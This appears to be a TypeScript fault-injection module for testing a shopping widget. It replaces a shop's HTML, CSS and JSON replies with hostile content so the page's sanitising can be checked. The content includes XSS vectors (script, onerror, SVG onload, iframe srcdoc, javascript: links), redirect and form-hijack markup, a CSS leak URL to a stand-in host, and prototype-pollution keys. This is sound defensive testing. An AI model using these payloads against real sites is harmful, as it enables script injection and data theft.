/** Markup that a page must never let through: what `--faults` sends in place of the shop's own fragments. */
const HOSTILE_HTML = [
  `<div id="hostile" data-dp-open="dp-sticky-bar" style="position:fixed;inset:0">`,
  `<script>window.__hostile = "script"</script>`,
  `<img src="x" onerror="window.__hostile = 'onerror'" alt="hostile image">`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='window.__hostile = 1'/>#x"/></svg>`,
  `<iframe srcdoc="<script>parent.__hostile = 'iframe'</script>"></iframe>`,
  `<base href="https://elsewhere.example/"><meta http-equiv="refresh" content="0;url=https://elsewhere.example/">`,
  `<link rel="stylesheet" href="https://elsewhere.example/x.css"><style>* { display: none !important }</style>`,
  `<form id="add-to-cart-form" action="https://elsewhere.example/" method="post"><input name="asin" value="B0HOSTILE0"><button>Go</button></form>`,
  `<a href="javascript:window.__hostile='link'" target="_blank" ping="https://elsewhere.example/">a link</a>`,
  `<button type="button" data-dp-action="add" data-asin="B0KETTLE17" formaction="https://elsewhere.example/">Add</button>`,
  `<p>Plain text stays.</p></div>`,
].join("");

const HTML_FIELD = /^(?:html|.+HTML|.+Html)$/;

const HOSTILE_CSS = `@import url("https://elsewhere.example/x.css"); :host { position: fixed } * { display: none }`;

/** The shop's own menu or form, turned against the page: it must still work, and none of what was added may do anything. */
function hostileControls(markup: string): string {
  return (
    markup
      .replaceAll("<button", `<button onclick="window.__hostile='onclick'" formaction="https://elsewhere.example/" form="add-to-cart-form"`)
      .replaceAll("<form", `<form onsubmit="window.__hostile='onsubmit'" target="_top" id="add-to-cart-form"`)
      .replaceAll('action="/hz/', 'action="https://elsewhere.example/hz/')
      .replaceAll(
        "<input",
        `<input onfocus="window.__hostile='onfocus'" autofocus style="position:fixed;inset:0;inline-size:100vw;block-size:100vh"`,
      ) + HOSTILE_HTML
  );
}

/** Rules that reach for the page, among those that only dress the menu. */
const hostileRules = (css: string): string =>
  `${HOSTILE_CSS.replace("* { display: none }", "")} :host-context(body) { display: none } body, ::slotted(*) { display: none }
  button[data-list-name^="W"] { background: url("https://elsewhere.example/leak?W") } button { position: fixed !important; inset: 0 }
  ${css}`;

/** The same reply with hostile markup wherever it has markup, and with keys that pollute prototypes. */
export function hostileReply(body: string, contentType: string, call = ""): string {
  const keeps = call === "list-dropdown" || call === "list-create-form";
  if (!contentType.includes("json")) return keeps ? hostileControls(body) : HOSTILE_HTML;
  const hostile = (value: unknown): unknown => {
    if (Array.isArray(value)) return value.map(hostile);
    if (typeof value !== "object" || value === null) return value;
    return Object.fromEntries(
      Object.entries(value).map(([key, inner]) => {
        if (HTML_FIELD.test(key)) return [key, keeps ? hostileControls(String(inner)) : HOSTILE_HTML];
        if (key === "css") return [key, keeps ? hostileRules(String(inner)) : HOSTILE_CSS];
        if (/(?:Link|Url)$/.test(key)) return [key, `javascript:window.__hostile="${key}"`];
        return [key, hostile(inner)];
      }),
    );
  };
  const text = JSON.stringify(hostile(JSON.parse(body)));
  return text.startsWith("{") ? `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},${text.slice(1)}` : text;
}
